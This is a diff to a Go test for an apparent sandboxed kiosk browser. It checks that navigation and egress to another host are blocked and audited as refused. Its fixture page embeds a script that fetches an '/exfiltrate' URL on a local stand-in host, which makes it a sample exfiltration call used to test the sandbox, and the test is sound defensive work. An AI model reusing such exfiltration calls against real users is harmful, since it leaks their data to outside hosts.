@@ -3,6 +3,7 @@ package runner_test
 import (
 	"crypto/tls"
 	"encoding/json"
+	"errors"
 	"fmt"
 	"io"
 	"log"
@@ -13,6 +14,7 @@ import (
 	"path/filepath"
 	"strings"
 	"sync/atomic"
+	"syscall"
 	"testing"
 	"time"
 
@@ -40,8 +42,9 @@ func hubServer(t *testing.T, ca *testCA, other string) (addr string, hits *atomi
 	hits = &atomic.Int64{}
 	page := fmt.Sprintf(`<!doctype html><html><head><title>hub</title>
 <style>html,body{margin:0;height:100%%;background:rgb(%d,%d,%d)}</style></head>
-<body><script>fetch("https://%s/exfiltrate").catch(function(){});</script></body></html>`,
-		kioskGreen[0], kioskGreen[1], kioskGreen[2], other)
+<body><a href="https://%s/navigated" style="display:block;height:100%%"></a>
+<script>fetch("https://%s/exfiltrate").catch(function(){});</script></body></html>`,
+		kioskGreen[0], kioskGreen[1], kioskGreen[2], other, other)
 	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		hits.Add(1)
 		w.Header().Set("Content-Type", "text/html")
@@ -67,11 +70,13 @@ func TestKioskBrowser(t *testing.T) {
 		}
 	}
 	for _, m := range modes(t) {
-		t.Run(m.name, func(t *testing.T) { testKiosk(t, m) })
+		t.Run(m.name, func(t *testing.T) { testKiosk(t, m, m.as == nil) })
 	}
 }
 
-func testKiosk(t *testing.T, m mode) {
+// testKiosk runs the kiosk as m says; close ends it with Ctrl+W in the
+// window, else by killing the browser.
+func testKiosk(t *testing.T, m mode, close bool) {
 	ca := newCA(t, "airlock kiosk test CA")
 	other := echoListen(t, "tcp", "127.0.0.1:0").Addr().String()
 	otherHub, otherHits := hubServer(t, ca, other)
@@ -163,8 +168,35 @@ func testKiosk(t *testing.T, m mode) {
 		t.Fatal(err)
 	}
 
-	// Closing the window ends the session.
-	view.Chord(0xffe3, 'w') // Control_L + w
+	// The page is one link to another host: clicking it is refused by
+	// the policy (Chromium's block page replaces the site), and nothing
+	// reaches that host.
+	view.Click(view.W/2, view.H/2)
+	if err := realtest.WaitFor(30*time.Second, func() error {
+		if err := view.Update(false); err != nil {
+			return err
+		}
+		if f := greenShare(view); f > 0.1 {
+			return fmt.Errorf("%.0f%% of the screen still the site's", f*100)
+		}
+		// The block page has an icon and a message, not only white.
+		if view.Distinct() < 4 {
+			return errors.New("no block page drawn yet")
+		}
+		return nil
+	}); err != nil {
+		writePNG(t, view, "kiosk-navigated.png")
+		t.Fatalf("clicking the link did not show Chromium's block page: %v", err)
+	}
+	writePNG(t, view, "kiosk-navigated.png")
+
+	if close {
+		// Closing the window ends the session.
+		view.Chord(0xffe3, 'w') // Control_L + w
+	} else {
+		// So does the browser's end by a signal.
+		killBrowser(t, id)
+	}
 	ev := r.WaitExit(t, 60*time.Second)
 	if !strings.Contains(ev.Reason, "kiosk-browser") {
 		t.Errorf("session ended with %q, want the browser's exit", ev.Reason)
@@ -189,6 +221,24 @@ func testKiosk(t *testing.T, m mode) {
 			t.Errorf("egress to %s: audited %q, want refuse (all: %v)", target, verdicts[target], verdicts)
 		}
 	}
+}
+
+// killBrowser kills the kiosk's main browser process: the one whose
+// command line has the session's --app URL and no --type (its zygote,
+// renderers and GPU process have one).
+func killBrowser(t *testing.T, id string) {
+	t.Helper()
+	for _, pid := range realtest.ProcessesOf("?" + id) {
+		b, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
+		if err != nil || !strings.Contains(string(b), "--app=") || strings.Contains(string(b), "--type=") {
+			continue
+		}
+		if err := syscall.Kill(pid, syscall.SIGKILL); err != nil {
+			t.Fatalf("kill the browser (pid %d): %v", pid, err)
+		}
+		return
+	}
+	t.Fatal("the kiosk's browser process not found")
 }
 
 func portOf(addr string) string {
